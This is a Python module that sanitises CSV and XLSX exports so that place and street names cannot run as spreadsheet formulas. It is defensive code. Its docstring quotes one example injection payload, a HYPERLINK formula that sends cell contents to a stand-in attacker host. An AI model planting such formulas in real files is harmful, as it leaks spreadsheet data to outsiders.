"""Text that reaches a spreadsheet never becomes a formula (OWASP, "CSV Injection").

Names, street names and area names come from input files and OpenStreetMap; a name such as
``=HYPERLINK("http://evil.example/?"&A1,"click")`` would run in Excel or WPS when the file
is opened. The rules, one per format:

- CSV: a text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
  gets a leading apostrophe, which Excel and WPS read as "this cell is text" (and hide).
  Numbers stay numbers: numeric columns are never touched, and neither is text that is
  a plain decimal number (``-3.5``, which a spreadsheet reads as that number anyway).
- XLSX: every text cell is stored as a string cell, never as a formula (openpyxl makes a
  formula of any string starting with ``=``, and an error cell of ``#N/A``). The text is kept
  as it is, with no apostrophe added (the cell's type already says "text"); a cell that
  starts like a formula also gets the ``quotePrefix`` style, Excel's own record of a typed
  apostrophe, so it stays text when someone edits it. Characters XLSX cannot hold (C0
  controls other than tab, newline and carriage return: openpyxl's
  ``ILLEGAL_CHARACTERS_RE``) are replaced by U+FFFD, the replacement character.
"""

from __future__ import annotations

import re

import numpy as np
import pandas as pd
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.workbook.workbook import Workbook

#: A cell starting with one of these is a formula (or its start) to a spreadsheet.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

#: Single characters that start like a formula but are no formula: a dash for "none".
LONE_MARKS = frozenset({"-", "+"})

#: Stands for a character that an XLSX file cannot hold.
REPLACEMENT = "\ufffd"

_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def looks_like_formula(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as (the start of) a formula; a lone dash
    (the grade of a station without one) is text to every spreadsheet."""
    return (
        text.startswith(FORMULA_START)
        and _PLAIN_NUMBER.fullmatch(text) is None
        and text not in LONE_MARKS
    )


def csv_cell(value: object) -> object:
    """``value`` as a CSV cell: text that looks like a formula with a leading apostrophe
    (``"=1+1"`` → ``"'=1+1"``); anything else (numbers, missing values) as it is."""
    if isinstance(value, str) and looks_like_formula(value):
        return "'" + value
    return value


def xlsx_text(value: object) -> object:
    """``value`` as an XLSX cell can hold it: in text, each character XLSX forbids replaced
    by :data:`REPLACEMENT`; anything else as it is."""
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub(REPLACEMENT, value)
    return value


def _is_text(column: pd.Series) -> bool:
    dtype = column.dtype
    return (
        pd.api.types.is_object_dtype(dtype)
        or pd.api.types.is_string_dtype(dtype)
        or isinstance(dtype, pd.CategoricalDtype)
    )


def _mapped(column: pd.Series, cell) -> pd.Series:  # type: ignore[no-untyped-def]
    """``cell`` applied to the text values of ``column`` (as objects), once per distinct
    text: ids repeat (a travel-time table names each site thousands of times). Values that
    are not text (numbers, flags, missing values, lists from a GeoJSON field) are kept as
    they are, which is what the guards do with them; only text is compared, so ``True``
    and ``1`` are never taken for one value."""
    values = column.astype(object).to_numpy(copy=True)
    text = np.fromiter((isinstance(v, str) for v in values), dtype=bool, count=len(values))
    if text.any():
        codes, uniques = pd.factorize(values[text])
        done = np.empty(len(uniques), dtype=object)
        done[:] = [cell(v) for v in uniques]
        values[text] = done[codes]
    return pd.Series(values, index=column.index, name=column.name, dtype=object)


def _text_cells_mapped(frame: pd.DataFrame, cell) -> pd.DataFrame:  # type: ignore[no-untyped-def]
    """A copy of ``frame`` with ``cell`` applied to the column names and every cell of its
    text columns (object, string or categorical dtype); numeric columns are not touched."""
    out = frame.copy(deep=False)
    for i in range(out.shape[1]):
        column = out.iloc[:, i]
        if _is_text(column):
            out.isetitem(i, _mapped(column, cell))
    out.columns = [cell(c) for c in out.columns]
    return out


def csv_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` as it goes into a CSV: :func:`csv_cell` on the text cells and the column
    names (the frame itself is not changed)."""
    return _text_cells_mapped(frame, csv_cell)


def xlsx_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` as it goes into an XLSX sheet: :func:`xlsx_text` on the text cells and the
    column names (the frame itself is not changed)."""
    return _text_cells_mapped(frame, xlsx_text)


def text_cells(book: Workbook) -> None:
    """Make every text cell of ``book`` a string cell (never a formula or an error), with
    the ``quotePrefix`` style where it starts like a formula."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
                    if looks_like_formula(cell.value):
                        cell.quotePrefix = True
